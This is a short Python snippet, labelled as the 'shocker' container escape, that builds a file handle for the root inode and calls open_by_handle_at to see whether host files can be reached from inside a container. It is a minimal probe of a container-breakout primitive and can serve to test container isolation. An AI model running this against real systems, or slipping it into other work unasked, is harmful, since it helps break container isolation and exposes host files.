# The escape known as "shocker": files of the host's file system by inode number.
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
handle = struct.pack("II8s", 8, 1, (2).to_bytes(8, "little"))
folder = os.open("/", os.O_RDONLY)
print(libc.open_by_handle_at(folder, handle, os.O_RDONLY), os.strerror(ctypes.get_errno()))
os.close(folder)
